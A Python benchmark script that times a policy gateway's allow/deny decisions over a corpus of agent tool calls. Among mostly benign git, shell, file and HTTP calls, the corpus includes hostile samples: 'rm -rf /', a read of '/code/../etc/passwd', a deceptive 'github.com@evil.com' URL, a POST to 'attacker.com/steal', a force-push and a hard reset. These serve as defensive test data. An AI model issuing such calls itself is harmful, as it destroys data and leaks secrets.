"""The decision alone, in one process: microseconds per call over a mixed corpus."""

import argparse
import cProfile
import json
import pstats
import statistics
import time
from typing import Any

from services.policy_gateway.decision.decide import decide
from services.policy_gateway.decision.facts import Facts
from services.policy_gateway.decision.roles import SHIPPED, Roles, parse_roles
from services.policy_gateway.decision.verdict import Allow

_CONTAINER = {
    "image": "hexpm/elixir:1.18",
    "cmd": ["mix", "test"],
    "mounts": [{"host": "/code", "cont": "/work", "ro": True}],
    "working_dir": "/work",
}
CORPUS: list[tuple[str, str, dict[str, Any], dict[str, Any] | None]] = [
    ("coder", "git", {"cmd": ["status"]}, None),
    ("coder", "git", {"cmd": ["commit", "-am", "Add feature"]}, {"timeout": 60_000}),
    ("coder", "git", {"cmd": ["log", "--oneline", "-n", "20", "main..HEAD", "--", "lib/auth.ex"]}, None),
    ("coder", "git", {"cmd": ["diff", "--stat", "HEAD~2", "--", "lib", "test"]}, None),
    ("coder", "git", {"cmd": ["push", "--force", "origin", "main"]}, None),
    ("coder", "git", {"cmd": ["reset", "--hard", "HEAD~50"]}, None),
    ("coder", "shell", {"cmd": ["mix", "test", "test/auth_test.exs:12", "--trace"]}, {"timeout": 60_000}),
    ("coder", "shell", {"cmd": ["cargo", "clippy", "--all-targets", "--", "-D", "warnings"]}, None),
    ("coder", "shell", {"cmd": ["git", "add", "."]}, None),
    ("coder", "shell", {"cmd": ["rm", "-rf", "/"]}, None),
    ("coder", "shell", {"cmd": ["mix", "run", "-e", "System.halt()"], "cwd": "/code/app"}, None),
    ("tester", "shell", {"cmd": ["cargo", "test", "-p", "core", "--", "--nocapture"]}, {"timeout": 600_000}),
    ("coder", "fs", {"read": "/code/lib/feature.ex"}, None),
    ("coder", "fs", {"write": "/code/lib/feature.ex", "content": "defmodule Feature do\nend\n" * 40}, None),
    ("coder", "fs", {"read": "/code/../etc/passwd"}, None),
    ("critic", "fs", {"write": "/code/lib/auth.ex", "content": "x"}, None),
    ("researcher", "http", {"url": "https://hexdocs.pm/phoenix/Phoenix.html"}, None),
    ("researcher", "http", {"url": "https://github.com/search?q=jwt", "headers": {"Accept": "text/html"}}, None),
    ("researcher", "http", {"url": "https://github.com@evil.com/x"}, None),
    ("tester", "docker", _CONTAINER, {"cpu": 2, "mem": "2g", "timeout": 600_000}),
    ("tester", "docker", {"image": "alpine", "cmd": ["sh"]}, None),
    ("critic", "lua", {"src": "function main(code) return {quality = 'good'} end", "argv": ["x" * 2000]}, None),
    ("coder", "http", {"url": "https://attacker.com/steal", "method": "post"}, None),
    ("admin", "shell", {"cmd": ["kubectl", "apply", "-f", "deployment.yaml"]}, {"timeout": 7_200_000}),
]
FACTS = Facts(bound_role=None)


def median_us(roles: Roles, call: tuple[str, str, dict[str, Any], dict[str, Any] | None], rounds: int) -> float:
    """The median of `rounds` timings of one call."""
    role, tool, args, opts = call
    spent = []
    for _ in range(rounds):
        begin_ns = time.perf_counter_ns()
        decide(roles, role, tool, args, opts, FACTS)
        spent.append(time.perf_counter_ns() - begin_ns)
    return statistics.median(spent) / 1e3


def main(arguments: list[str]) -> int:
    """Measure the corpus, whole and by tool."""
    options = argparse.ArgumentParser(prog="scripts/bench_policy_decide", add_help=False)
    options.add_argument("--rounds", type=int, default=2000)
    options.add_argument("--profile", action="store_true")
    given = options.parse_args(arguments)
    roles = parse_roles(SHIPPED.read_text(encoding="utf-8"))
    if given.profile:
        profile = cProfile.Profile()
        with profile:
            for role, tool, args, opts in CORPUS * given.rounds:
                decide(roles, role, tool, args, opts, FACTS)
        pstats.Stats(profile).sort_stats("tottime").print_stats(18)
        return 0
    spent = []
    begin_s = time.perf_counter()
    for _ in range(given.rounds):
        for role, tool, args, opts in CORPUS:
            begin_ns = time.perf_counter_ns()
            decide(roles, role, tool, args, opts, FACTS)
            spent.append(time.perf_counter_ns() - begin_ns)
    whole_s = time.perf_counter() - begin_s
    spent.sort()
    allowed = sum(isinstance(decide(roles, role, tool, args, opts, FACTS), Allow) for role, tool, args, opts in CORPUS)
    report: dict[str, Any] = {
        "workload": "mixed",
        "calls": len(CORPUS),
        "allowed": allowed,
        "p50_us": round(spent[len(spent) // 2] / 1e3, 2),
        "p99_us": round(spent[len(spent) * 99 // 100] / 1e3, 2),
        "per_s": round(len(spent) / whole_s),
    }
    print(json.dumps(report), flush=True)
    for tool in ("git", "shell", "fs", "http", "docker", "lua"):
        medians = [median_us(roles, call, given.rounds) for call in CORPUS if call[1] == tool]
        print(json.dumps({"workload": tool, "calls": len(medians), "p50_us": round(statistics.median(medians), 2)}))
    return 0
